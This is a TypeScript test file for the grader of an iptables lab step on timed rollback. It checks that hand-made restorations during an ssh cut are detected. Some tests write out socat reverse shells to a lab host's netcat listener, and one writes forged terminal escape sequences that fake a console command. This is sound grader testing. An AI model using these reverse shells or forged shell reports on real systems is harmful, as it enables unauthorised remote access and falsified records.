import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JournalCommand } from '../../labkit/journal';
import { drawParameters, learnerSeed } from '../../labkit/parameters';
import type { SolveContext } from '../../labkit/types';
import { moreRulesLab } from '../../labs/iptables-more-rules';
import { addrs, CHAIN } from '../../labs/iptables-more-rules/machine1';
import { lockouts, type Lockout } from '../../labs/iptables-more-rules/sshLockout';
import { sshIn, sshOut } from '../../labs/iptables-more-rules/steps/09-locked-out';
import { byHand } from '../../labs/iptables-more-rules/steps/10-safeguard';
import { checkContext, solveContext } from '../../server/grading/contexts';
import { startLabDriver, type LabDriver } from '../../server/grading/selfTest';
import type { Journal } from '../../server/journal/Journal';
import { standaloneJournal } from '../../server/journal/standaloneJournal';
import { newSessionId, testRuntime } from '../support/labRuntime';

/**
 * The safeguard step (a change that undoes itself while ssh is cut) on a real lab, judged
 * through the lab journal: an honest timed rollback passes however the learner's shell lies,
 * and the hands that could reach Machine 1 during the cut – its console, an ssh session the cut
 * left open, a connection opened during the cut or one open since before it – are each caught
 * and named.
 */
const { runtime, namespace } = testRuntime('safeguard');
const id = newSessionId();
let driver: LabDriver;
let journal: Journal;
let closeJournal: () => Promise<void>;

const ctx = (): SolveContext => {
  const check = checkContext(runtime, driver.deployment, {
    terminals: driver.terminals,
    parameters: driver.parameters,
  });
  return solveContext(check, {});
};
const a = () => addrs(ctx().view);
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
/** The journal as a check reads it: every lockout, oldest first. */
const found = async (): Promise<Lockout[]> =>
  (await lockouts(journal.readerFor(id, driver.deployment), { ...a(), m1Others: [a().m1Office] })).found;
const commandsOnMachine1 = async (): Promise<JournalCommand[]> =>
  (await journal.readerFor(id, driver.deployment).events('command')).filter((c) => c.machineId === 'machine1');
/** A line typed into the ssh session on Machine 2; resolves when `done` shows after it. */
/** Until the journal holds a list of Machine 1's connections, read after `since`, with the door to office-pc's `port`. */
const backDoorListedSince = async (since: number, port: number): Promise<void> => {
  const deadline = Date.now() + 120_000;
  for (;;) {
    const lists = await journal.readerFor(id, driver.deployment).events('connectionList');
    if (lists.some((l) => l.startedAt >= since && l.connections.some((c) => c.peerPort === port))) return;
    if (Date.now() > deadline) throw new Error(`no connection list with the door to port ${port} since ${since}`);
    await pause(500);
  }
};
const inSsh = async (line: string, done: RegExp) => {
  const c = ctx();
  const since = c.mark('machine2');
  await c.typeLine('machine2', line);
  await c.waitFor('machine2', done, { since, timeoutMs: 60_000 });
};
const cutOutright = `iptables -I ${CHAIN} -p tcp --dport 22 -j REJECT`;

beforeAll(async () => {
  const parameters = drawParameters(
    moreRulesLab.parameters ?? {},
    learnerSeed('safeguard', 'learner', moreRulesLab.id),
  );
  const kept = await standaloneJournal(runtime, moreRulesLab, namespace);
  journal = kept.journal;
  closeJournal = () => kept.close();
  driver = await startLabDriver(runtime, { lab: moreRulesLab, sessionId: id, parameters, journal });
}, 300_000);
afterAll(async () => {
  await driver?.close();
  await closeJournal?.();
}, 120_000);

describe('a lockout undone by hand is not credited to a safeguard', () => {
  it("typing the restore at Machine 1's console fails, naming it, even with its shell reporting nothing", async () => {
    // A shell without the integration on the console: what the shell reports shows nothing.
    await driver.terminals.type('machine1', 'env -u PROMPT_COMMAND -u PS0 bash --norc --noprofile\r');
    await pause(1_500);
    await sshIn(ctx());
    await ctx().typeLine('machine2', cutOutright);
    await pause(8_000);
    const commandsBefore = (await commandsOnMachine1()).length;
    await driver.terminals.type('machine1', `iptables -D ${CHAIN} 1\r`);
    await sshOut(ctx());
    const verdict = await driver.check('safeguard');
    expect(verdict.passed).toBe(false);
    expect(verdict.message).toMatch(/keys were typed at Machine 1's console at \d\d:\d\d:\d\d, while ssh was cut/);
    const last = (await found()).at(-1);
    expect(last?.backAt).toBeDefined();
    expect(last?.typed.length).toBeGreaterThan(0);
    expect((await commandsOnMachine1()).length).toBe(commandsBefore);
    await driver.terminals.type('machine1', 'exit\r');
    await pause(1_500);
  }, 600_000);

  it('restoring through the ssh session a new-connections-only cut left open fails, saying why', async () => {
    await sshIn(ctx());
    await inSsh(`iptables -I ${CHAIN} -p tcp -m state --state NEW --dport 22 -j REJECT && echo CUT$((40+2))`, /CUT42/);
    await pause(8_000);
    // The open session still carries keystrokes: the learner's hand restores the rules through it.
    await inSsh(`iptables -D ${CHAIN} 1 && echo RESTORED$((40+2))`, /RESTORED42/);
    await sshOut(ctx());
    const verdict = await driver.check('safeguard');
    expect(verdict.passed).toBe(false);
    expect(verdict.message).toMatch(/not surely the session you already had open from Machine 2/);
    expect(verdict.message).toMatch(/--syn|--state NEW/);
  }, 600_000);
  it('restoring through a shell Machine 1 opened to office-pc during the cut fails, naming the connection', async () => {
    const { pc } = a();
    await driver.terminals.type('office-pc', 'nc -l -p 4444\r');
    await pause(1_500);
    await sshIn(ctx());
    // Set up before the cut, as a timer would be: a shell that calls out to office-pc 12 s later.
    await ctx().typeLine('machine2', `(sleep 12; socat TCP:${pc}:4444 EXEC:/bin/sh) >/dev/null 2>&1 & ${cutOutright}`);
    await pause(20_000);
    await driver.terminals.type('office-pc', `iptables -D ${CHAIN} 1\r`);
    await sshOut(ctx());
    await driver.terminals.type('office-pc', '\x03');
    const verdict = await driver.check('safeguard');
    expect(verdict.passed).toBe(false);
    expect(verdict.message).toMatch(new RegExp(`Machine 1 connected to ${pc.replace(/\./g, '\\.')} port 4444`));
    expect((await found()).at(-1)?.typed).toEqual([]);
  }, 600_000);

  it('restoring through a shell connected to office-pc before the cut fails, naming the connection and its bytes', async () => {
    const { pc, m1Office } = a();
    await driver.terminals.type('office-pc', 'nc -l -p 4445\r');
    await pause(1_500);
    await sshIn(ctx());
    // Before the cut: a shell on Machine 1 calls office-pc and stays connected. The cut leaves it alone.
    await inSsh(`(socat TCP:${pc}:4445 EXEC:/bin/sh >/dev/null 2>&1 &); sleep 2; echo READY$((40+2))`, /READY42/);
    await ctx().typeLine('machine2', cutOutright);
    await pause(10_000);
    const restoring = Date.now();
    await driver.terminals.type('office-pc', `iptables -D ${CHAIN} 1\r`);
    // The host counts what the door carried when it lists Machine 1's connections after the
    // change; a loaded host may list them late, and a door closed before then has no count.
    await backDoorListedSince(restoring, 4445);
    await sshOut(ctx());
    await driver.terminals.type('office-pc', '\x03');
    const verdict = await driver.check('safeguard');
    expect(verdict.passed).toBe(false);
    const dots = (s: string) => s.replace(/\./g, '\\.');
    expect(verdict.message).toMatch(
      new RegExp(
        `Machine 1's connection between ${dots(m1Office)} port \\d+ and ${dots(pc)} port 4445 received \\d+ bytes from ${dots(pc)} while ssh was cut`,
      ),
    );
    const last = (await found()).at(-1);
    expect(last?.typed).toEqual([]);
    expect(last?.otherWay).toBeUndefined();
    expect(last?.leaky).toBeUndefined();
  }, 600_000);
});

describe('an honest timed rollback passes', () => {
  it('`sleep … && service iptables restart` passes, though a job on Machine 1 forges shell reports of a console command during the cut', async () => {
    const forged = `\\033]633;E;iptables -D ${CHAIN} 1\\007\\033]633;C\\007\\033]633;D;0\\007`;
    // Started before the cut, it waits for the cut rule, then prints the markers on the console.
    const waitForCut = `until iptables -C ${CHAIN} -p tcp --dport 22 -j REJECT 2>/dev/null; do sleep 0.3; done; sleep 2`;
    await driver.terminals.type('machine1', `(${waitForCut}; printf '${forged}') &\r`);
    await pause(1_500);
    await sshIn(ctx());
    await ctx().typeLine('machine2', `(sleep 20 && service iptables restart) >/dev/null 2>&1 & ${cutOutright}`);
    // The learner's `exit` comes later, into the frozen session; it leaves once the rules are back.
    await pause(5_000);
    await sshOut(ctx());
    const last = (await found()).at(-1);
    expect(last?.backAt).toBeDefined();
    const forgedDuring = (await commandsOnMachine1()).filter(
      (c) => last && c.at > last.cutAt && c.at < (last.backAt ?? 0) && c.commandLine?.startsWith('iptables -D'),
    );
    expect(forgedDuring).toHaveLength(1);
    const verdict = await driver.check('safeguard');
    expect(verdict.message).toMatch(/with no key typed at Machine 1's console/);
    expect(verdict.passed).toBe(true);
  }, 600_000);

  it('`iptables-apply` (the step’s own solve) passes, judged on its own lockout', async () => {
    const before = (await found()).length;
    await driver.solve('safeguard');
    const all = await found();
    expect(all.length).toBe(before + 1);
    const last = all.at(-1);
    expect(last && byHand(last)).toBeUndefined();
    expect((await driver.check('safeguard')).passed).toBe(true);
  }, 600_000);
});
